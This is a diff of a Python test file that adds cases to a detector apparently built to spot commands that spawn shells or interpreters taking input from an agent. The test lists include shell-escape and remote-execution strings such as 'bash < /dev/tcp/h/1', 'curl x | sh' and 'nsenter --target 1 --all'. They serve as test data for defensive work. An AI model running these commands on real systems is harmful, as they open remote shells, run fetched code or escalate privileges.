@@ -48,7 +48,7 @@ PLACED = [
     "cat <<E\nx\nE\nbash", "cat <<'E'\ndon't\nE\nbash", "cat <<E; bash\nx\nE", "cat <<E\n$(bash)\nE", "cat <<-E\n\tE\nbash",
     "eval bash", "eval 'bash -i'", "eval bash ''", "builtin eval bash", 'eval "$x"', "eval $(echo sh)", "trap bash EXIT",
     "bash -c bash", "bash -lc 'bash -i'", "bash -c 'cd x; bash'", "bash -c 'exec bash'", "bash -c '\"$@\"' _ bash",
-    "bash -o pipefail -c bash", "sh -c", 'read x; eval "$x"', "while read l; do $l; done",
+    "git rebase --exec 'bash -i'", "git config alias.x '!bash'", "bash -o pipefail -c bash", "sh -c", 'read x; eval "$x"', "while read l; do $l; done",
 ]  # fmt: skip
 FED = [
     "bash > log", "bash 2>&1", "> x bash", "2>x bash", "bash >> x 2>&1", "bash {fd}<x", "bash 3<x", "bash | tee log",
@@ -56,7 +56,10 @@ FED = [
     "bash <&3", "bash < /dev/tcp/h/1", "bash /dev/stdin", "python3 /dev/fd/0", "sh /proc/self/fd/0", "bash $x", 'bash "$@"',
     "cat | bash", "cat - | sh", "cat /dev/tty | sh", "tee x | bash", "head -n 3 | sh", "sed -n p | sh", "(cat) | sh",
     "cat | cat | python", "stdbuf -o0 cat | sh", "cat | sudo bash", "source /dev/stdin", ". /dev/stdin", "bash <(cat)",
-    "source <(cat)", 'eval "$(cat)"', 'eval "$(</dev/stdin)"', 'bash -c "$(cat)"', 'python -c "$(cat)"',
+    "awk '{system($0)}'", "sed e", "sed -n '1e sh'", "perl -ne 'system $_'", "perl -pe 1 | sh", "go run -", "make --file=-",
+    "uv run --script -", "python -c $x", 'python -c "$x"', "/proc/self/exe", "/proc/$$/exe -i", "python3.12-dbg",
+    "machinectl shell x", "runuser - root", "bundle exec rails c", "conda run --live-stream bash", "iex -S mix", "visudo",
+    "nsenter --target 1 --all", "source <(cat)", 'eval "$(cat)"', 'eval "$(</dev/stdin)"', 'bash -c "$(cat)"', 'python -c "$(cat)"',
 ]  # fmt: skip
 
 
@@ -71,7 +74,7 @@ def test_a_program_that_takes_commands_from_the_agent_is_found(command: str) -> 
     [
         "", "ls", "bash x.sh", "bash -c ls", "bash -ic ls", "python -m pytest", "python x.py", "python -c 'import x'",
         "python --version", "bash --version", "node -v", "perl -v", "python3 -V", "node --test", "node -r x y.js",
-        "perl -i.bak -pe x", "perl -d:NYTProf x", "bash -- x.sh", "which python", "command -v python", "type bash",
+        "perl -i.bak -pe x f", "perl -d:NYTProf x", "bash -- x.sh", "which python", "command -v python", "type bash",
         "! command -v node", "echo x | python", "curl x | sh", "curl x | bash -s -- -y", "cat x | sudo bash",
         "(echo a; echo b) | python", "base64 -d x | python", "bash < x.sh", "bash < x.sh > y", "python3 <<< 'print(1)'",
         "python3 - <<'EOF'\nbash\nEOF", "cat > x <<EOF\npython\nnode's\nEOF", "cat <<\\E\n`bash`\nE", "bash dev/stdin/x.sh",
@@ -84,6 +87,9 @@ def test_a_program_that_takes_commands_from_the_agent_is_found(command: str) -> 
         "sudo -u postgres psql -c x", "script -qc 'make' x", "bash x.sh # python", "echo '$'bash", "> x ls", "tmux ls",
         "tmux new -d x", "psql -c x", "sqlite3 x.db 'select 1'", "sqlite3 x.db < x.sql", "crontab -l", "gdb -batch x",
         'eval "$(ssh-agent -s)"', "source <(kubectl completion bash)", "bash <(curl x)", "trap 'rm x' EXIT", "echo $((1+2))",
+        "sed -i s/a/b/ f", "sed -i.bak -e s/a/b/ f", "ls | sed s/a/b/", "sed s/a/b/ < f", "sed --version", "awk -F: '{print $1}' f",
+        "awk 'BEGIN{print 1}'", "perl -lane print f", "perl x.pl", "ls | awk '{print $1}'", "python3-config --includes",
+        "uv add ipython", "bundle install", "nix build", "iex -e x", "go run .", "make --file=x", "uv run --script x.py",
         "$HOME/bin/tool", "$(npm bin)/eslint .", '"$VENV/bin/pytest"', "case x in (a) ls;; esac", "nix develop -c make",
     ],
 )  # fmt: skip
